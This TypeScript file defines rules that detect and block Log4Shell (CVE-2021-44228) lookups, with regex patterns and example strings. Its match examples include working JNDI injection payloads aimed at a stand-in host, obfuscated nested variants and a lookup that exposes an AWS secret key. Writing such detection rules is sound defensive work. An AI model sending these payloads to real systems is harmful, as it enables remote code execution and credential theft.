// biome-ignore-all lint/suspicious/noTemplateCurlyInString: examples of attacks hold them.
import type { RuleText } from '../rule-text.ts';

const ADVISORY = 'https://logging.apache.org/security.html#CVE-2021-44228';

/** Lookups of Log4j 2. */
export const LOG4SHELL: readonly RuleText[] = [
  {
    id: 'log4shell-jndi',
    alert: 'A lookup by JNDI, which Log4j 2 before 2.15 follows and runs (CVE-2021-44228)',
    evidence: 'LOG4SHELL',
    severity: 'critical',
    action: 'block',
    confidence: 0.99,
    where: 'any',
    match: {
      regex: String.raw`\$\{?\s*jndi\s*:|\$\{.{0,60}\bjndi\s*:|jndi:(?:ldaps?|rmi|dns|nis|iiop|corba|nds|https?):|\$(?:\{|&\w+;)\W{0,4}jndi\b`,
    },
    examples: {
      match: ['${jndi:ldap://a.example/x}', { headers: { 'user-agent': '${jndi:rmi://a.example/x}' } }],
      spare: ['what is jndi', '${name}'],
    },
    source: ADVISORY,
  },
  {
    id: 'log4shell-nested',
    alert: 'A lookup of Log4j inside of another one hides its name',
    evidence: 'LOG4SHELL',
    severity: 'critical',
    action: 'block',
    confidence: 0.97,
    where: 'any',
    match: {
      regex: String.raw`\$\{\s*(?:(?:lower|upper|env|sys|date|ctx|main|map|sd|java|log4j|base64|bundle|docker|k8s|marker|spring|web|jvmrunargs|event)\s*:|:+-|\w{0,12}:+-?\w?[:}'-])[^}]{0,80}\}?.{0,40}(?:\$\{|:\s*//|:\w{0,4}://|j|\})|\$\{\s*\$\{|\$\{\w{0,12}:?-?\$\{|\$\{::-\w`,
    },
    examples: {
      match: [
        '${${lower:j}ndi:${lower:l}dap://a.example/x}',
        '${${::-j}${::-n}di:x}',
        '${${env:BARFOO:-j}ndi}',
        '${${upper:j}ndi:ldap://x}',
      ],
      spare: ['${date}', '${a} and ${b}', '{env:prod}'],
    },
    source: 'https://logging.apache.org/log4j/2.x/manual/lookups.html',
  },
  {
    id: 'log4shell-open-lookup',
    alert: 'A lookup of Log4j that tells about the machine',
    evidence: 'LOG4SHELL',
    severity: 'high',
    action: 'block',
    confidence: 0.93,
    where: 'any',
    match: {
      regex: String.raw`\$\{\s*(?:env|sys|java|ctx|bundle|docker|k8s|log4j|hostname|main|sd|jvmrunargs)\s*:\s*[\w.:/-]+\}?`,
    },
    examples: {
      match: ['${env:AWS_SECRET_ACCESS_KEY}', '${java:version}', '${sys:user.home}'],
      spare: ['${javascript}', '${system}', '${environment}'],
    },
    source: 'https://logging.apache.org/log4j/2.x/manual/lookups.html',
  },
];
